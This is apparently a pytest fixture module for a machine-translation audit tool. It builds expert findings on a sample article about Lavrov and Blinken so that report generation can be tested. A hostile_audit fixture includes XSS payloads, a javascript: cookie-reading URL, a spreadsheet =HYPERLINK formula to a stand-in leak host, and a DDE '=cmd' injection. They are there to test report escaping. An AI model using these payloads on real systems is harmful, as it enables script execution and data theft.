"""RunAudits with real findings, built directly, for the report tests.

The rule families (T, C, N, L, S) are built elsewhere, so the reports are
tested on findings made here through the engine's own machinery
(``DocumentContext.finding`` on the segmented sample article): the spans are
what an expert flags in ``samples/awani-lavrov-blinken.txt`` (see
``/work/shared/seed``), with exact offsets, sentences and a verdict from
``audits.verdict.decide``. Rules are declared here because the registry of
this branch only has S500; the reports must work either way.
"""

from __future__ import annotations

from audits.config import AuditConfig
from audits.document import (
    Document,
    DocumentAudit,
    Finding,
    RunAudit,
    RunFinding,
    SentenceFluency,
    Severity,
)
from audits.engine import analyse, failed, prepare, signature
from audits.rules import Rule
from audits.sources.base import InputFailure
from audits.verdict import decide
from tests.conftest import SEED


def _rule(code: str, name: str, summary: str, *langs: str, severity=Severity.WARNING) -> Rule:
    return Rule(
        code=code,
        name=name,
        summary=summary,
        what=summary + ".",
        why="Machine translation leaves this trace.",
        example="See the sample article.",
        severity=severity,
        source_langs=langs,
    )


RULES = {
    r.code: r
    for r in (
        _rule("C201", "french-calque", "A French expression translated word for word", "fr"),
        _rule("N301", "name-two-spellings", "One person spelled two ways in a document"),
        _rule("N302", "known-name-misspelled", "A near miss of a well-known name"),
        _rule("N303", "lost-diacritic", "A name that lost its diacritics or ligature", "fr"),
        _rule("S501", "duplicated-line", "A headline or line repeated by a scraper"),
        _rule("S502", "injected-related-link", "An injected 'See also' line"),
        _rule("S503", "promo-bullet", "An audio or video promo bullet", severity=Severity.INFO),
        _rule("T103", "doubled-punctuation", "Doubled sentence-final punctuation", "fr"),
        _rule("N310", "name-across-documents", "One person spelled differently across documents"),
    )
}

# (rule, quoted span, occurrence (0 = first), message, suggestion, strength)
SAMPLE_FINDINGS = [
    (
        "C201",
        "hold their positions",
        0,
        "French calque of “camper sur ses positions”.",
        "stand their ground",
        0.45,
    ),
    (
        "C201",
        "hold their positions",
        1,
        "French calque of “camper sur ses positions”.",
        "stand their ground",
        0.45,
    ),
    (
        "S501",
        "Lavrov and Blinken hold their positions in Geneva",
        1,
        "The headline is repeated on the next line.",
        None,
        0.4,
    ),
    (
        "C201",
        "diplomatic chief",
        0,
        "French calque of “chef de la diplomatie”.",
        "foreign minister",
        0.6,
    ),
    (
        "N302",
        "Anthony Blinken",
        0,
        "Near miss of the well-known name Antony Blinken.",
        "Antony Blinken",
        0.5,
    ),
    (
        "N301",
        "Anthony Blinkin",
        0,
        "Blinkin is spelled Blinken elsewhere in the article.",
        "Anthony Blinken",
        0.7,
    ),
    (
        "C201",
        "intense diplomatic ballet show",
        0,
        "French calque of “intense ballet diplomatique”.",
        "flurry of diplomacy",
        0.6,
    ),
    (
        "T103",
        ". .",
        0,
        "Doubled sentence-final punctuation, typical of French typesetting.",
        ".",
        0.3,
    ),
    (
        "S503",
        "• Listen to Philip Vincent Foissy’s interview",
        0,
        "An audio promo bullet was scraped into the article.",
        None,
        0.3,
    ),
    ("N303", "Jolicour", 0, "Jolicœur lost its œ ligature.", "Jolicœur", 0.4),
    (
        "S502",
        'See also\u00a0 Aid to Ukraine "on the backs" of farmers',
        0,
        "An injected “See also” link to another article.",
        None,
        0.5,
    ),
    ("N302", "Olaf Schulz", 0, "Near miss of the well-known name Olaf Scholz.", "Olaf Scholz", 0.5),
    (
        "C201",
        "the State Department’s number two",
        0,
        "French calque of “la numéro deux du département d'État”.",
        "the Deputy Secretary of State",
        0.5,
    ),
    (
        "C201",
        "yesterday and the day before yesterday",
        0,
        "French calque of “hier et avant-hier”.",
        "in recent days",
        0.5,
    ),
]

# Sentences (by a phrase in them) an expert expects to read as disfluent.
DISFLUENT = (
    "intense diplomatic ballet show",
    "before even escorting reporters",
    "a military attack by Ukraine",
    "specializes in QUB Radio",
    "We will try to change your tone",
)


def nth(text: str, needle: str, occurrence: int) -> int:
    start = -1
    for _ in range(occurrence + 1):
        start = text.index(needle, start + 1)
    return start


def sample_document(doc_id: str | None = None, text: str | None = None) -> Document:
    body = text if text is not None else SEED.read_text(encoding="utf-8")
    return Document(
        id=doc_id or str(SEED.relative_to(SEED.parents[1])),
        text=body,
        source=doc_id or str(SEED.relative_to(SEED.parents[1])),
        title="Awani Review",
        url="https://awani.example/world/lavrov-blinken-geneva",
        meta={"encoding": "utf-8"},
    )


def sample_audit(
    document: Document | None = None, *, fluency: bool = False, config: AuditConfig | None = None
) -> DocumentAudit:
    """The sample article with the expert's findings (and, optionally, fluency scores)."""
    config = config or AuditConfig(lm=False)
    doc = document or sample_document()
    ctx = prepare(doc, config)
    audit = analyse(ctx, frozenset())  # the registry's rules stay out of it
    findings: list[Finding] = []
    for code, needle, occurrence, message, suggestion, strength in SAMPLE_FINDINGS:
        if needle not in doc.text:
            continue
        start = nth(doc.text, needle, occurrence)
        findings.append(
            ctx.finding(
                RULES[code],
                start,
                start + len(needle),
                message,
                suggestion=suggestion,
                strength=strength,
                evidence={"span": needle},
            )
        )
    audit.findings = sorted(findings, key=lambda f: (f.start, f.end, f.code))
    if fluency:
        audit.fluency = {s.index: _fluency(s.text, s.index) for s in audit.sentences}
    audit.verdict = decide(audit, config, RULES)
    return audit


def _fluency(text: str, index: int) -> SentenceFluency:
    low = any(phrase in text for phrase in DISFLUENT)
    percentile = 2.0 + index % 3 if low else 40.0 + (index * 7) % 55
    return SentenceFluency(
        tokens=max(1, len(text.split())),
        logprob=-3.0 * len(text.split()),
        mean_logprob=-3.0,
        perplexity=20.0,
        slor=0.5 if low else 2.5,
        min_token_slor=-4.0 if low else -1.0,
        score=percentile / 100,
        percentile=percentile,
        low=low,
    )


def sample_run(*, fluency: bool = False, extra: list[DocumentAudit] | None = None) -> RunAudit:
    config = AuditConfig(lm=False)
    audits = [sample_audit(fluency=fluency), *(extra or [])]
    return RunAudit(
        documents=audits,
        signature=signature(config, frozenset(RULES), None),
        started="2026-11-28T21:40:09+00:00",
        finished="2026-11-28T21:40:10+00:00",
    )


HOSTILE_TITLE = '<script>alert("title")</script> "Quotes" & \'apos\' =HYPERLINK("x")'
HOSTILE_TEXT = (
    "Breaking: <script>alert('xss')</script> took place in Geneva.\n\n"
    '=HYPERLINK("http://evil.example/?leak","click me") was posted by @everyone today.\n\n'
    "The minister said: 100% sure, a | b, c:d and `ticks` | pipes.\n"
    '-2+3 was the "score" <img src=x onerror=alert(1)> on #12.\n'
)


def hostile_audit() -> DocumentAudit:
    """A document whose every field tries to break out of a report format."""
    doc = Document(
        id='feed.jsonl:7"><svg onload=alert(1)>',
        text=HOSTILE_TEXT,
        source='feed.jsonl:7"><svg onload=alert(1)>',
        title=HOSTILE_TITLE,
        url="javascript:alert(document.cookie)",
        author="=cmd|' /C calc'!A0",
        meta={"encoding": "utf-8"},
    )
    config = AuditConfig(lm=False)
    ctx = prepare(doc, config)
    audit = analyse(ctx, frozenset())
    spans = [
        ("S502", "<script>alert('xss')</script>", "Injected markup <b>bold</b> & more\nline two"),
        ("C201", '=HYPERLINK("http://evil.example/?leak","click me")', "=SUM(A1:A9)"),
        ("N302", "@everyone", "@everyone: ping, with a comma\r\nand CRLF"),
        ("T103", "100% sure, a | b, c:d", "%0A:: fake::error title=x"),
        ("S503", "<img src=x onerror=alert(1)>", "-2+3 <img src=y>"),
    ]
    findings = []
    for code, needle, message in spans:
        start = doc.text.index(needle)
        findings.append(
            ctx.finding(RULES[code], start, start + len(needle), message, suggestion="+1 |x|")
        )
    audit.findings = findings
    audit.verdict = decide(audit, config, RULES)
    return audit


def unreadable_audit() -> DocumentAudit:
    return failed(InputFailure("feeds/missing.txt", "no such file or directory"))


def run_finding(audits: list[DocumentAudit]) -> RunFinding:
    """N310: one person spelled differently in two documents of the run."""
    places = []
    for audit in audits:
        for f in audit.findings:
            if f.code in ("N301", "N302") and "Blink" in f.text:
                places.append((audit.document.id, f))
                break
    return RunFinding(
        code="N310",
        message="Antony Blinken is spelled differently across documents.",
        places=places,
    )
